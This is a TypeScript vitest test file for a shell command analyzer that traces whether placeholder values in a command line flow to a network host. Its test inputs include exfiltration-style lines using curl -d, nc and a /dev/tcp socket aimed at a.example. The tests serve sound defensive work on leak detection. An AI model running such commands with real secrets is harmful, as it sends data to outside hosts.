import { describe, expect, it } from 'vitest';
import { createShellHome } from '../../../src/mask/shell-home.ts';

/** Where each `PPP` of a command line leads. */
function judge(line: string): unknown[] {
  const home = createShellHome(line);
  return [...line.matchAll(/PPP/g)].map(({ index }) => {
    const found = home.leadsTo({ start: index, end: index + 3 });
    return found === 'unknown' ? found : [...new Set(found)];
  });
}

describe('where the values of a command line lead', () => {
  it.each<[string, readonly unknown[]]>([
    ['echo PPP > f; curl https://a.example/PPP', [[], ['a.example']]],
    ['echo PPP | curl -d @- https://a.example/', [['a.example']]],
    ['X=PPP; Y=$X; curl -d "$Y" https://a.example/', [['a.example']]],
    ['X=PPP; curl https://a.example/', [[]]],
    ['X=PPP; echo https://a.example/?$X', [['a.example']]],
    ["bash -c 'echo PPP; nc a PPP'", ['unknown', 'unknown']],
    ["sh -c 'echo PPP' && nc a b", [[]]],
    ['curl http://localhost/PPP', [[]]],
    ['echo "see https://a.example/ and PPP"', [[]]],
    ['cat > f <<E\nhttps://a.example/PPP\nPPP\nE', [['a.example'], []]],
    ['# https://a.example/PPP', [['a.example']]],
    ['echo x > /tmp/PPP', [[]]],
    ['exec 3<>/dev/tcp/a.example/80; echo PPP >&3', ['unknown']],
    ['tee >(nc a 1) <<< PPP', ['unknown']],
    ['diff <(echo PPP) f', [[]]],
  ])('%s', (line, expected) => {
    expect(judge(line)).toEqual(expected);
  });

  it('cannot be told of a line that is too long or holds too many', () => {
    expect(judge(`echo PPP ${'x'.repeat(131_072)}`)).toEqual(['unknown']);
    const many = judge('echo PPP;'.repeat(1001));
    expect([many[0], many[999], many[1000]]).toEqual([[], [], 'unknown']);
  });
});
